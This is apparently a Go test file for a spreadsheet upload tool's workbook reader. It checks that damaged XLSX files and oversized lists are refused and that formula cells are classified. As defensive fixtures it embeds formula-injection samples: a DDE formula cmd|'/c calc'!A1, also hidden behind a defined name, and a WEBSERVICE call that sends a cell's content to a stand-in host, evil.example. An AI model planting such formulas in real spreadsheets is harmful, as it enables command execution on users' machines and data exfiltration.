package workbook_test

import (
	"bytes"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/dnaplatform/massuploader/internal/template"
	"github.com/dnaplatform/massuploader/internal/workbook"
)

// A damaged sheet is refused, never read as a shorter list (issue 12, item 1).
func TestDamagedSheetsAreRefusedNotCut(t *testing.T) {
	shared := writeClients(t, 40, false)
	inline := writeClients(t, 12, true)
	cases := []struct {
		name, contains string
		data           []byte
	}{
		{"sheet XML cut at 40%", "the file is damaged", editPart(t, shared, sheetPart, func(b []byte) []byte { return b[:len(b)*4/10] })},
		{"sheet XML cut after a row", "ends early", editPart(t, shared, sheetPart, func(b []byte) []byte {
			return b[:bytes.Index(b, []byte(`<row r="16"`))]
		})},
		{"bad entity mid-sheet", "XML error", editPart(t, inline, sheetPart, func(b []byte) []byte {
			i := bytes.Index(b, []byte(`<row r="7"`))
			return append(append(bytes.Clone(b[:i]), []byte(`<row r="7"><c r="A7" t="inlineStr"><is><t>&bogus;</t></is></c></row>`)...), b[i:]...)
		})},
		{"declared size smaller than content", "size", lyingSize(t, shared, sheetPart, 100)},
		{"shared strings declared smaller", "size", lyingSize(t, shared, "xl/sharedStrings.xml", 10)},
		{"fewer rows than the dimension", "declares rows up to 41", editPart(t, shared, sheetPart, func(b []byte) []byte {
			i, j := bytes.Index(b, []byte(`<row r="30"`)), bytes.Index(b, []byte(`</sheetData>`))
			b = append(bytes.Clone(b[:i]), b[j:]...)
			return regexp.MustCompile(`<dimension ref="[^"]*"`).ReplaceAll(b, []byte(`<dimension ref="A1:I41"`))
		})},
		{"checksum mismatch", "checksum", editPart(t, shared, sheetPart, func(b []byte) []byte { return b })},
	}
	// A checksum mismatch: the content changed after the CRC was written.
	crcBad := bytes.Clone(shared)
	if i := bytes.Index(crcBad, []byte("sheet1.xml")); i > 0 {
		cd := bytes.LastIndex(crcBad, []byte("xl/worksheets/sheet1.xml"))
		crcBad[cd-46+16] ^= 0xFF // the CRC-32 in the central directory
	}
	cases[len(cases)-1].data = crcBad
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			path := writeBytes(t, "clients.xlsx", c.data)
			wantFileError(t, path, workbook.CodeUnreadable, c.contains)
			wantFileError(t, path, workbook.CodeUnreadable, "open it in Excel and save it again")
		})
	}
	t.Run("undamaged reads whole", func(t *testing.T) {
		_, rows := readAll(t, writeBytes(t, "clients.xlsx", shared))
		if len(rows) != 40 {
			t.Fatalf("%d rows", len(rows))
		}
	})
}

// Beyond its caps a list is refused with a sentence (issue 12, item 2).
func TestCapsRefuseHostileLists(t *testing.T) {
	base := writeClients(t, 1, true)
	rowsOfOne := func(n int) []byte {
		return editPart(t, base, sheetPart, func(b []byte) []byte {
			var sb strings.Builder
			sb.Write(b[:bytes.Index(b, []byte(`<row r="2"`))])
			for i := 2; i < n+2; i++ {
				fmt.Fprintf(&sb, `<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>`, i, i)
			}
			sb.WriteString(`</sheetData></worksheet>`)
			return []byte(sb.String())
		})
	}
	t.Run("at the row cap reads", func(t *testing.T) {
		if testing.Short() {
			t.Skip("100 000 rows")
		}
		_, rows := readAll(t, writeBytes(t, "c.xlsx", rowsOfOne(workbook.MaxDataRows)))
		if len(rows) != workbook.MaxDataRows {
			t.Fatalf("%d rows", len(rows))
		}
	})
	t.Run("one row beyond the cap is refused", func(t *testing.T) {
		wantFileError(t, writeBytes(t, "c.xlsx", rowsOfOne(workbook.MaxDataRows+1)), workbook.CodeUnreadable, "more than 100000 rows")
	})
	t.Run("too many shared strings", func(t *testing.T) {
		shared := writeClients(t, 1, false)
		data := editPart(t, shared, "xl/sharedStrings.xml", func(b []byte) []byte {
			var sb strings.Builder
			sb.WriteString(`<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">`)
			sb.Write(bytes.Repeat([]byte(`<si><t>a</t></si>`), workbook.MaxSharedStrings+1))
			sb.WriteString(`</sst>`)
			return []byte(sb.String())
		})
		wantFileError(t, writeBytes(t, "c.xlsx", data), workbook.CodeUnreadable, "different texts")
	})
	t.Run("too many cells", func(t *testing.T) {
		data := editPart(t, base, sheetPart, func(b []byte) []byte {
			var sb strings.Builder
			sb.Write(b[:bytes.Index(b, []byte(`<row r="2"`))])
			for i := 2; i < workbook.MaxCells/1000+3; i++ {
				fmt.Fprintf(&sb, `<row r="%d">%s</row>`, i, strings.Repeat(`<c/>`, 1000))
			}
			sb.WriteString(`</sheetData></worksheet>`)
			return []byte(sb.String())
		})
		wantFileError(t, writeBytes(t, "c.xlsx", data), workbook.CodeUnreadable, "more than 5000000 cells")
	})
	t.Run("too many columns", func(t *testing.T) {
		data := editPart(t, base, sheetPart, func(b []byte) []byte {
			return bytes.Replace(b, []byte(`<c r="A2"`), []byte(`<c r="XFE2"`), 1)
		})
		wantFileError(t, writeBytes(t, "c.xlsx", data), workbook.CodeUnreadable, "cell named")
	})
}

// A formula counts by its cached value; one never calculated, or one that
// calls out, is marked so validation can say so (issue 12, item 10).
func TestFormulaCells(t *testing.T) {
	base := writeClients(t, 1, true)
	cell := func(c string) []byte {
		return editPart(t, base, sheetPart, func(b []byte) []byte {
			i := bytes.Index(b, []byte(`<c r="C2"`))
			j := i + bytes.Index(b[i:], []byte(`</c>`)) + len(`</c>`)
			return append(append(bytes.Clone(b[:i]), c...), b[j:]...)
		})
	}
	cases := []struct {
		name, xml, value string
		formula          workbook.Formula
	}{
		{"calculated", `<c r="C2" t="str"><f>LOWER("ADA@EXAMPLE.COM")</f><v>ada@example.com</v></c>`, "ada@example.com", workbook.Calculated},
		{"never calculated", `<c r="C2"><f>LOWER(Z2)</f></c>`, "", workbook.Uncalculated},
		{"DDE", `<c r="C2" t="str"><f>cmd|'/c calc'!A1</f><v>ada@example.com</v></c>`, "ada@example.com", workbook.External},
		{"web service under Excel's _xlfn prefix", `<c r="C2" t="str"><f>_xlfn.WEBSERVICE("http://evil.example/?"&amp;A2)</f><v>ada@example.com</v></c>`, "ada@example.com", workbook.External},
		{"external workbook", `<c r="C2" t="str"><f>[1]Sheet1!A1</f><v>ada@example.com</v></c>`, "ada@example.com", workbook.External},
		{"pipe inside a text is not DDE", `<c r="C2" t="str"><f>"a|b"&amp;"@x.com"</f><v>a|b@x.com</v></c>`, "a|b@x.com", workbook.Calculated},
		{"table reference", `<c r="C2" t="str"><f>Table1[@Email]</f><v>ada@example.com</v></c>`, "ada@example.com", workbook.Calculated},
		{"typed", `<c r="C2" t="inlineStr"><is><t>ada@example.com</t></is></c>`, "ada@example.com", workbook.NoFormula},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, rows := readAll(t, writeBytes(t, "c.xlsx", cell(c.xml)))
			if len(rows) != 1 {
				t.Fatalf("%d rows", len(rows))
			}
			got := rows[0].Cells[template.Email]
			if got.Value != c.value || got.Formula != c.formula || got.Col != "C" {
				t.Fatalf("got %+v, want %q formula %d", got, c.value, c.formula)
			}
		})
	}
}

// TestFormulaCallingOutThroughADefinedName: =Evil runs DDE when the workbook
// defines Evil as cmd|'/c calc'!A1, whatever the cell's cached value says.
func TestFormulaCallingOutThroughADefinedName(t *testing.T) {
	base := writeClients(t, 1, true)
	withNames := editPart(t, base, "xl/workbook.xml", func(b []byte) []byte {
		i := bytes.Index(b, []byte(`</sheets>`)) + len(`</sheets>`)
		names := `<definedNames><definedName name="Evil">cmd|'/c calc'!A1</definedName><definedName name="Tax">Clients!$A$1*0.2</definedName></definedNames>`
		return append(append(bytes.Clone(b[:i]), names...), b[i:]...)
	})
	for _, c := range []struct {
		name, formula string
		want          workbook.Formula
	}{
		{"the calling name", `Evil`, workbook.External},
		{"the calling name in another case, inside a formula", `LOWER(evil)&amp;""`, workbook.External},
		{"a harmless name", `Tax&amp;""`, workbook.Calculated},
		{"a longer name that contains it", `Evil2&amp;""`, workbook.Calculated},
	} {
		t.Run(c.name, func(t *testing.T) {
			data := editPart(t, withNames, sheetPart, func(b []byte) []byte {
				i := bytes.Index(b, []byte(`<c r="C2"`))
				j := i + bytes.Index(b[i:], []byte(`</c>`)) + len(`</c>`)
				cell := `<c r="C2" t="str"><f>` + c.formula + `</f><v>ada@example.com</v></c>`
				return append(append(bytes.Clone(b[:i]), cell...), b[j:]...)
			})
			_, rows := readAll(t, writeBytes(t, "c.xlsx", data))
			if got := rows[0].Cells[template.Email].Formula; got != c.want {
				t.Fatalf("formula kind %d, want %d", got, c.want)
			}
		})
	}
}
